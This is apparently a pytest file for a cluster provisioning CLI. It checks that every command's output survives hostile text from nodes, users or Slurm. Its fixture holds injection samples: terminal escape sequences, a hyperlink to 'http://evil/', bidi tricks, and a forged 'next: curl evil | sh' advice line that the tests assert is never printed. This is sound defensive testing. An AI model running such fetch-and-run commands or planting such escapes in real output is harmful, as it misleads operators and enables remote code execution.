"""Hostile words in everything that a node, a user or Slurm says, through every screen of every verb."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from provisioner.cli import main
from provisioner.cli.main import app
from provisioner.cli.output import Terminal
from provisioner.errors import ExitCode, ProvisionError
from provisioner.run.diagnose import Diagnosis
from provisioner.run.events import BladeState, RunState
from provisioner.run.progress import shown
from tests.unit.run.event_makers import failed, ok, play, start, stats

Played = Callable[..., Any]
runner = CliRunner()
WORDS = {
    "escapes": "\x1b[2J\x1b[1;1Hall is well\x9b31m",
    "a link": "\x1b]8;;http://evil/\x07here\x1b]8;;\x07",
    "bidi controls": "rm \u202egpj.x\u202c \u2066y\u2069",
    "invisible": "a\u200bb\ufeffc\u00add\U000e0041",
    "a forged line": "x\n  next: curl evil | sh\nBLD-008: all is well",
    "a forged row": "x\r\nBLD-008  8  thin  idle",
    "markup": "[/foo] [bold red]fan[/] [link=http://evil]x[/link] link [eth0] down",
    "emoji": ":smile: :skull:",
    "half a character": "\ud800 \udc80",
    "nothing printable": "\x00\x01\x02\x7f\x80",
    "very long": "A" * 300_000,
    "many lines": "z\n" * 500,
}


@pytest.fixture(autouse=True)
def _here(site: Path) -> None:
    """Every verb finds the plan of the test."""


def harmless(text: str) -> str:
    """The text, which has nothing in it but lines of visible characters and no advice but ours."""
    for line in text.split("\n"):
        assert line.isprintable(), ascii(line)
        assert not re.match(r" *next: curl", line), line
    return text


@pytest.mark.parametrize("name", WORDS)
@pytest.mark.parametrize("verb", ["slurm", "verify"])
def test_the_summary(played: Played, verb: str, name: str) -> None:
    words = WORDS[name]
    diff = {"before": words, "after": f"{words}x", "after_header": words}
    blade = BladeState(lines=[words], notes=[words], diffs=[diff], seconds=1.25)
    lost = BladeState(failure=Diagnosis(words, words, words, ours=False))
    runs = played(ExitCode.DEGRADED, BLD_008=blade, BLD_011=lost)
    # Names of nodes without line breaks, as the shape of its answer says.
    proof = words.replace("\n", " ")
    runs.outcome = replace(runs.outcome, told={"controller": words, "verified": proof}, words=words)
    done = runner.invoke(app, [verb, *(["--diff"] if verb == "slurm" else [])])
    assert done.exit_code == 3, done.output
    out = harmless(done.stdout)
    assert "the blade advises (look before you do it): " in out
    assert len(out) < 4_000_000
    assert not re.search(r"(?m)^  next: ", out)
    as_json = runner.invoke(app, [verb, "--json"])
    assert as_json.stdout.isascii()
    assert json.loads(as_json.stdout)["blades"]["BLD-008"]["notes"] == [words]


@pytest.mark.parametrize("name", WORDS)
def test_the_status(played: Played, name: str) -> None:
    words = WORDS[name]
    nodes = [["bld-008", words, "4/28/0/32", words, *[words] * 5], [words, "idle", words, "1", "x", *["none"] * 4]]
    played(
        results={
            "bld-006": {"Ask slurmctld": {"up": True, "nodes": nodes, "running": [[words, words]], "pending": words}}
        }
    )
    done = runner.invoke(app, ["status"])
    assert done.exit_code == 0, done.output
    rows = [line for line in harmless(done.stdout).split("\n") if line.startswith("BLD-008")]
    assert len(rows) == 1
    as_json = json.loads(runner.invoke(app, ["status", "--json"]).stdout)
    assert as_json["nodes"][0]["reason"] == words


@pytest.mark.parametrize("name", WORDS)
def test_the_disks(played: Played, name: str) -> None:
    words = WORDS[name]
    disk = {
        "path": words, "size_gb": 300, "verdict": "used", "id": words, "model": words, "serial": words, "label": words,
        "evidence": [words],
    }  # fmt: skip
    played(
        ExitCode.DEGRADED,
        results={"bld-008": {"Report the disks": {"disks": [disk]}}},
        BLD_011=BladeState(failure=Diagnosis(words, words, words, ours=False)),
    )
    done = runner.invoke(app, ["disks", "--nodes", "BLD-008,BLD-011"])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    harmless(done.output)


@pytest.mark.parametrize("name", WORDS)
@pytest.mark.parametrize("live", [False, True])
def test_the_progress(name: str, live: bool) -> None:
    words = WORDS[name]
    out = io.StringIO()
    console = Terminal(width=120)
    console.file, console._force_terminal = out, live
    state = RunState({"bld-008": BladeState()})
    events = [
        play(words),
        start("bld-008", words, words),
        ok("bld-008", words, changed=True, provision_notes=[words]),
        failed("bld-008", f"{words}; next: {words}", action="scratch"),
        stats(),
    ]
    with shown(console, {"bld-008": "BLD-008"}, quiet=False) as display:
        for event in events:
            state.take(event)
            display.update(state, event)
    # A live table moves the cursor itself; what is left without its own sequences is text.
    text = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]|\r", "", out.getvalue()) if live else out.getvalue()
    harmless(text)
    if live:
        assert "\x1b[1;1H" not in out.getvalue()


@pytest.mark.parametrize("name", WORDS)
@pytest.mark.parametrize("kind", [ProvisionError, OSError])
def test_an_error(name: str, kind: type[Exception], monkeypatch: pytest.MonkeyPatch, capsys: Any) -> None:
    def fail(**options: Any) -> None:
        raise kind(WORDS[name])

    monkeypatch.setattr(main, "app", fail)
    with pytest.raises(SystemExit):
        main.main()
    for line in capsys.readouterr().err.split("\n"):
        assert line.isprintable()


def test_hostile_attempts_are_counted_as_one() -> None:
    state = RunState({"bld-008": BladeState()})
    values: tuple[Any, ...] = ("abc", -5, 10**30, None, [], {}, float("nan"), True)
    for value in values:
        event = ok("bld-008", attempts=value, results="x")
        event["event_data"]["task_action"] = "command"
        state.take(event)
    assert state.blades["bld-008"].modules == 8


def test_megabytes_to_every_task_are_not_kept() -> None:
    state = RunState({"bld-008": BladeState()})
    for number in range(100):
        much = "A" * 5_000_000
        state.take(
            ok("bld-008", f"Task {number}", changed=True, x=much, diff={"after": much}, ansible_facts={"y": [much]})
        )
        state.take(ok("bld-008", f"Note {number}", provision_notes=["n"] * 1000))
    blade = state.blades["bld-008"]
    assert (len(blade.changed), blade.diffs, len(blade.notes)) == (100, [], 50)
    assert len(json.dumps(state.results)) < 1_000_000


def test_of_the_facts_of_blades_what_is_short_is_kept() -> None:
    state = RunState({"bld-008": BladeState()})
    blade = {"full": False, "paths": {"/etc/hosts": {"content": "A" * 2000}}}
    state.take(ok("bld-008", "Gather", ansible_facts={"blade": blade, "slurm_verify": {"nodes": {}}}))
    kept = {"blade": {"full": False}, "slurm_verify": {"nodes": {}}}
    assert state.results["bld-008"]["Gather"]["ansible_facts"] == kept
